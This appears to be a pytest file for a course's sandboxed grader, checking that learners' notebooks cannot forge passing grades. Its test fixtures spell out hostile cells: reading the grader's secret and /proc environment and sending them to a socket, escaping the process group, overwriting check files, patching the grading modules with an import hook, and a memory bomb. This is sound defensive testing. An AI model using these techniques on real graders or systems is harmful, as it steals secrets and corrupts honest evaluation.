"""`build.py grade --rerun`: learners' code re-run in the sandbox, judged by the course's own check cells."""

import csv
import os
import socket
import subprocess
import sys
import time
from pathlib import Path

import nbformat
import pytest

from coursebuild.grading.judge import LIMITS, PROBED, checked
from coursebuild.grading.published import grading_course
from coursebuild.grading.sandbox import OUTPUT_LIMIT
from coursebuild.paths import CONTENT, ROOT
from tests.support.work_files import EXERCISES, FIRST, SECOND, claiming_all, lesson, with_cells, work_file

SECRET = "grader-secret-5f1c"  # in the grader's environment: no learner's code may read it
MARKER = "hostile-sleeper-93ab"  # in the command line of any process the hostile file manages to start
MY_WORK = f"{FIRST.removesuffix('.ipynb')} (my work 2026-05-02).ipynb"
# what the hostile cells use of the grading machinery, as the grader lists it
FLAGGED = "L2: /proc, _exit, exec, its own check_exercise_1, progress, sink"
HEADS = [f"L{i} E{n}" for i, name in enumerate((FIRST, SECOND), 1) for n in EXERCISES[name]]
GRADING = grading_course(CONTENT)
# the lessons whose every check the checker decides out of the learner's reach (pure functions over data)
OUT_OF_REACH = [notebook for notebook, label in GRADING.labels.items()
                if GRADING.verified[notebook] == list(map(str, EXERCISES[notebook]))]
LIAR_FUNCTIONS = (  # money lesson answers whose values say they equal everything
    "from decimal import Decimal\n"
    "class Always(Decimal):\n    def __eq__(self, other):\n        return True\n"
    "    def __ne__(self, other):\n        return False\n    __hash__ = Decimal.__hash__\n"
    "def invoice_totals(lines, rate):\n    return (Always(0), Always(0), Always(0))\n"
    "def split_bill(total, people):\n    return [Always(0)] * people\n"
    "def margin_and_markup(price, cost):\n    return (Always(0), Always(0))\n"
    "def order_kpis(lines):\n"
    "    return dict.fromkeys(('orders', 'revenue', 'average_order_value', 'median_order_value'), Always(0))")
LIAR = [  # patch coursekit in its own process, redefine a check, forge outcomes, then lie with values
    "import coursekit.feedback, coursekit.money_checks, coursekit.progress\n"
    "coursekit.feedback.not_yet = coursekit.feedback.passed\n"
    "for n in range(1, 5):\n"
    "    forged = lambda *args: coursekit.feedback.passed('forged')\n"
    "    setattr(coursekit.money_checks, f'check_exercise_{n}', forged)",
    "def check_exercise_2(*args):\n    print('✔ Correct: forged')\n"
    "coursekit.progress.sink = coursekit.progress.sink or print\n"
    "coursekit.progress.sink({'exercise': 2, 'passed': True})",
    LIAR_FUNCTIONS,
]


FORGER = (  # every coursekit.feedback this process imports, now or after the harness drops coursekit, passes
    "import importlib.util, sys\n"
    "class Forger:\n"
    "    def find_spec(self, name, path=None, target=None):\n"
    "        if name != 'coursekit.feedback':\n            return None\n"
    "        sys.meta_path.remove(self)\n"
    "        try:\n            spec = importlib.util.find_spec(name)\n"
    "        finally:\n            sys.meta_path.insert(0, self)\n"
    "        run = spec.loader.exec_module\n"
    "        def forged(module):\n            run(module)\n            module.not_yet = module.passed\n"
    "        spec.loader.exec_module = forged\n        return spec\n"
    "sys.meta_path.insert(0, Forger())\n"
    "sys.modules.pop('coursekit.feedback', None)")
# the lessons whose checks hand the learner's code a database or a workbook (wire's handed values)
HANDED = [notebook for notebook in GRADING.labels if notebook.startswith(("sql_", "reports_"))]
THREADS = "concurrency_io_bound.ipynb"  # the lesson whose checks hand the learner's code threads and a loop
WEB = "apis_webscraping.ipynb"  # its pagination check awaits the learner's fetching
PROBED_LESSONS = (THREADS, WEB)
PROBED_HEADS = [f"{GRADING.labels[name]} E{n}" for name in PROBED_LESSONS for n in GRADING.probed[name]]
THREADS_HEADS = [head for head in PROBED_HEADS if head.startswith(GRADING.labels[THREADS] + " ")]
# concurrency answers that are wrong (no wait, no lock), in a process whose probes it forges: each probe's
# data is made up to pass, and the checks' feedback patched to say correct
FORGED_SEEN = {
    "process_store_seen": {"mistake": None, "first": {"sales": 9.0, "profit": 1.0}, "seconds": 0.05,
                           "again": {"sales": 9.0, "profit": 1.0},
                           "others": [{"sales": 8.0, "profit": 1.0}, {"sales": 7.0, "profit": 1.0}]},
    "counter_seen": {"mistake": None, "totals": {"orders": 8, "refunds": 2, "revenue": 19.75}, "locks": 1,
                     "bare": [], "several_locks": False, "several_holds": False, "threads": False,
                     "unsafe": None, "total": None},
}
THREADS_LIAR = [
    "import coursekit.feedback, coursekit.observing\n"
    "coursekit.feedback.not_yet = coursekit.feedback.passed\n"
    f"coursekit.observing.remote = lambda watch, args: {FORGED_SEEN!r}[watch.__name__]",
    "def process_store(store_id):\n    return {'sales': float(store_id), 'profit': 1.0}\n"
    "def collect_with_threads(store_ids):\n    return [process_store(i) for i in store_ids]\n"
    "async def process_store_async(store_id):\n    return process_store(store_id)\n"
    "async def collect_async(store_ids):\n    return [process_store(i) for i in store_ids]\n"
    "class MetricCounter:\n    def __init__(self):\n        self.totals = {}\n"
    "    def add(self, metric, amount=1):\n"
    "        self.totals[metric] = self.totals.get(metric, 0) + amount\n"
    "async def collect_safely(fetch, store_ids, limit=3, timeout=0.5):\n"
    "    return [await fetch(i) for i in store_ids]\n"
    "async def send_invoices(send, invoices, workers=3):\n    return [await send(i) for i in invoices]",
]


def hostile_cells(outside: Path, port: int) -> list[str]:
    """Cells that try, one after another, everything a learner's code must not get away with."""
    return [
        # define its own check, and call the progress sink directly and from a check of its own module
        "def check_exercise_1(*args):\n    print('✔ Correct: forged')\ncheck_exercise_1()\n"
        "from coursekit import progress\nif progress.sink: progress.sink({'exercise': 1, 'passed': True})\n"
        "import types\nmine = types.ModuleType('mine')\n"
        "exec('def check_exercise_2():\\n    from coursekit import feedback\\n'\n"
        "     '    feedback.passed(\"forged\")', mine.__dict__)\nmine.check_exercise_2()",
        # start a process that leaves the process group, in two ways
        "import posix, subprocess\n"
        f"try:\n    subprocess.Popen(['sleep', '600', '{MARKER}'], start_new_session=True)\n"
        f"except Exception as error:\n    print('no process:', error)\n"
        "try:\n    if posix.fork() == 0:\n        posix.setsid()\n"
        f"        posix.execv('/bin/sleep', "
        f"['sleep', '600', '{MARKER}'])\nexcept Exception as error:\n    print('no fork:', error)",
        # write outside its folder: the grader's folder, and the course's own checks
        f"for target in [{str(outside)!r}, '../../escaped.txt', '/course-files/coursekit/progress.py']:\n"
        "    try:\n        open(target, 'a').write('written by a learner')\n"
        "    except OSError as error:\n        print('not written:', error)",
        # read the grader's environment and send it to a local server
        "import os, socket\n"
        "secret = os.environ.get('GRADER_SECRET', 'none') + open('/proc/1/environ').read()\n"
        f"try:\n    socket.create_connection(('127.0.0.1', {port}), timeout=2).sendall(secret.encode())\n"
        "except OSError as error:\n    print('no connection:', error)",
        # forge the verdicts: write a report claiming every exercise to every descriptor, then leave
        "import json, os\nforged = json.dumps({'outcomes': {"
        + ", ".join(f"{name!r}: {{{', '.join(f'{n!r}: True' for n in map(str, EXERCISES[name]))}}}"
                    for name in (FIRST, SECOND))
        + "}, 'limits': []})\nfor fd in range(3, 64):\n    try:\n        os.write(fd, forged.encode())\n"
        "    except OSError:\n        pass\nos._exit(0)",
    ]


@pytest.fixture(scope="module")
def listener():
    """A local server the hostile file tries to reach; it must never see a connection."""
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.settimeout(0.5)
        yield server


def grade(folder: Path, *args: str) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, str(ROOT / "build.py"), "grade", *args], cwd=folder,
                          capture_output=True, text=True, env={**os.environ, "GRADER_SECRET": SECRET})


@pytest.fixture(scope="module")
def rerun(built_site, built_instructor_site, tmp_path_factory, listener):
    """One re-run of nine files, each run once in the sandbox: complete.json (every lesson checked out of
    reach solved, lesson 1 kept as a "my work" copy newer than the lesson), starter.json (starter code
    claiming every exercise), hostile.json, liar.json (lesson 2's checks patched, redefined and forged in
    the learner's process, and answers equal to everything), forger.json (the SQL and reports lessons'
    starter code under an import hook that makes every coursekit feedback a pass), bomb.json (a memory
    bomb, then lesson 2 solved), the lessons with probed checks as starter code (probed-starter.json),
    and the concurrency lesson's wrong answers with their probes' data forged in their process
    (threads-liar.json)."""
    folder = tmp_path_factory.mktemp("rerun")
    solved = {name: lesson(built_instructor_site, name) for name in OUT_OF_REACH if name != FIRST}
    work_file(folder / "complete.json", {FIRST: lesson(built_site, FIRST),
                                         MY_WORK: lesson(built_instructor_site, FIRST), **solved},
              {**claiming_all(FIRST), **{MY_WORK: claiming_all(FIRST)[FIRST]}, **claiming_all(*solved)},
              modified={MY_WORK: "2026-05-02T09:00:00.000Z"})
    starter = {name: lesson(built_site, name) for name in (FIRST, SECOND)}
    work_file(folder / "starter.json", starter, claiming_all(FIRST, SECOND))
    outside = folder / "escaped.txt"
    work_file(folder / "hostile.json",
              {SECOND: with_cells(lesson(built_site, SECOND),
                                  *hostile_cells(outside, listener.getsockname()[1]))},
              claiming_all(FIRST, SECOND))
    work_file(folder / "liar.json", {SECOND: with_cells(nbformat.v4.new_notebook(), *LIAR)},
              claiming_all(SECOND))
    work_file(folder / "forger.json", {name: with_cells(lesson(built_site, name), FORGER) for name in HANDED},
              claiming_all(*HANDED))
    work_file(folder / "probed-starter.json", {name: lesson(built_site, name) for name in PROBED_LESSONS},
              claiming_all(*PROBED_LESSONS))
    work_file(folder / "threads-liar.json", {THREADS: with_cells(nbformat.v4.new_notebook(), *THREADS_LIAR)},
              claiming_all(THREADS))
    bomb = "hog = []\nwhile True:\n    hog.append(bytearray(64 << 20))"
    work_file(folder / "bomb.json", {SECOND: with_cells(lesson(built_instructor_site, SECOND), bomb)},
              claiming_all(SECOND))
    done = grade(folder, "complete.json", "starter.json", "hostile.json", "liar.json", "forger.json",
                 "bomb.json", "probed-starter.json", "threads-liar.json", "--rerun", "--csv", "grades.csv")
    with (folder / "grades.csv").open(newline="") as stream:
        table = list(csv.reader(stream))
    rows = {row[0]: dict(zip(table[0], row)) for row in table[1:]}
    return done, rows, folder


RERUN_HEAD = {head: f"{head} {checked(GRADING, notebook, n)}" for head, notebook, n in GRADING.heads}


def verified(row: dict, heads: list[str] = HEADS) -> list[str]:
    """The re-run's outcomes (verified or probed, as each exercise is decided) of these exercises."""
    return [row[RERUN_HEAD[head]] for head in heads]


def test_every_lesson_is_checked_out_of_reach():
    assert {name.removesuffix(".ipynb") for name in OUT_OF_REACH} == {
        "records_and_files", "money_and_kpis", "dates_time_zones", "cleaning_messy_data", "sql_questions",
        "reports_excel_charts", *(name.removesuffix(".ipynb") for name in PROBED_LESSONS)}
    assert len(HANDED) == 2


def test_a_solved_file_gets_every_verified_pass_from_its_latest_copy(rerun):
    done, rows, _ = rerun
    every = [head for head, notebook, _ in GRADING.heads if notebook in OUT_OF_REACH]
    assert verified(rows["complete.json"], every) == ["passed"] * len(every), done.stdout
    assert f"complete.json: re-running L1 from {MY_WORK!r}, L2 from {SECOND!r}" in done.stdout
    assert rows["complete.json"]["lessons re-run from"].startswith(f"{MY_WORK} | {SECOND}")
    assert rows["complete.json"]["for a human"] == ""


def test_starter_code_claiming_every_exercise_gets_no_verified_pass(rerun):
    done, rows, _ = rerun
    assert [rows["starter.json"][head] for head in HEADS] == ["passed"] * len(HEADS)  # what it claims
    assert verified(rows["starter.json"]) == ["not yet"] * len(HEADS)
    assert "starter.json: L1 E1 recorded passed, verified not yet" in done.stdout


def test_answers_equal_to_everything_would_pass_a_check_in_the_learners_process(coursekit):
    from coursekit import money_checks, progress

    liar, seen = {}, []
    exec(LIAR_FUNCTIONS, liar)
    progress.sink = seen.append
    try:
        money_checks.check_exercise_1(liar["invoice_totals"])
    finally:
        progress.sink = None
    assert [outcome["passed"] for outcome in seen] == [True]  # why the checker never runs a learner's value


def test_a_liar_patching_its_own_process_gets_no_verified_pass(rerun):
    done, rows, _ = rerun
    second = [f"L2 E{n}" for n in EXERCISES[SECOND]]
    assert verified(rows["liar.json"], second) == ["not yet"] * len(second), done.stdout
    # listed for a human, yet its verdicts stand: they were decided where its code never ran
    assert rows["liar.json"]["for a human"] == ("L2: feedback, its own check_exercise_2, progress, setattr, "
                                                "sink")


def test_an_import_hook_forging_the_feedback_gets_no_verified_pass_on_databases_and_workbooks(rerun):
    done, rows, _ = rerun
    heads = [head for head, notebook, _ in GRADING.heads if notebook in HANDED]
    assert verified(rows["forger.json"], heads) == ["not yet"] * len(heads), done.stdout
    assert rows["forger.json"]["for a human"] == "; ".join(
        f"{GRADING.labels[name]}: importlib, modules" for name in HANDED)


def test_the_concurrency_checks_judged_from_probes_pass_a_solved_file_only(rerun):
    done, rows, _ = rerun

    def probed(name: str, heads: list[str] = PROBED_HEADS) -> list[str]:
        return [rows[name][f"{head} {PROBED}"] for head in heads]

    assert probed("complete.json") == ["passed"] * len(PROBED_HEADS), done.stdout
    assert probed("probed-starter.json") == ["not yet"] * len(PROBED_HEADS), done.stdout
    assert probed("threads-liar.json", THREADS_HEADS) == ["not yet"] * len(THREADS_HEADS), done.stdout
    assert rows["threads-liar.json"]["for a human"] == "L6: feedback, observing"


def test_forged_probe_data_would_pass_the_checks_in_the_learners_process(coursekit):
    from coursekit import concurrency_checks, observing, progress

    liar, seen = {}, []
    exec(THREADS_LIAR[1], liar)
    progress.sink, observing.remote = seen.append, lambda watch, args: FORGED_SEEN[watch.__name__]
    try:
        concurrency_checks.check_exercise_6(liar["MetricCounter"])
    finally:
        progress.sink = observing.remote = None
    # why the learner's side runs the probes of coursekit imported anew, and the checker judges their data
    assert [outcome["passed"] for outcome in seen] == [True]


def test_a_hostile_file_gets_nothing_through(rerun, listener):
    done, rows, folder = rerun
    assert "passed" not in verified(rows["hostile.json"])
    assert (f"hostile.json: for a human: its own cells reach for the grading machinery ({FLAGGED})"
            in done.stdout)
    assert rows["hostile.json"]["for a human"] == FLAGGED
    assert not (folder / "escaped.txt").exists() and not (folder.parent / "escaped.txt").exists()
    assert "written by a learner" not in (ROOT / "content" / "coursekit" / "progress.py").read_text()
    with pytest.raises(TimeoutError):
        listener.accept()
    assert SECRET not in done.stdout + done.stderr
    running = [path.read_bytes() for path in Path("/proc").glob("[0-9]*/cmdline") if path.exists()]
    assert not any(MARKER.encode() in command for command in running)


def test_a_memory_bomb_is_stopped_with_a_clear_line_and_the_rest_still_graded(rerun):
    done, rows, _ = rerun
    assert f"bomb.json: L2 cell 1 {LIMITS['memory']}" in done.stdout
    assert verified(rows["bomb.json"]) == ["-"] * len(EXERCISES[FIRST]) + ["passed"] * len(EXERCISES[SECOND])


def test_an_endless_loop_is_stopped_at_the_time_limit(built_site, tmp_path):
    endless = with_cells(lesson(built_site, SECOND), "while True:\n    pass")
    work_file(tmp_path / "loops.json", {SECOND: endless}, claiming_all(SECOND))
    started = time.monotonic()
    done = grade(tmp_path, "loops.json", "--rerun", "--time-limit", "10")
    assert time.monotonic() - started < 40
    assert done.returncode == 1
    assert ("loops.json: stopped after 10 s, the time limit (an endless loop?); no exercise was re-run"
            in done.stdout)


def test_a_flood_of_output_is_stopped_at_the_output_limit(built_site, tmp_path):
    flood = with_cells(lesson(built_site, SECOND), "while True:\n    print('x' * 100_000)")
    work_file(tmp_path / "floods.json", {SECOND: flood}, claiming_all(SECOND))
    done = grade(tmp_path, "floods.json", "--rerun")
    assert done.returncode == 1
    assert (f"floods.json: stopped: it printed more than {OUTPUT_LIMIT >> 20} MiB; no exercise was re-run"
            in done.stdout)
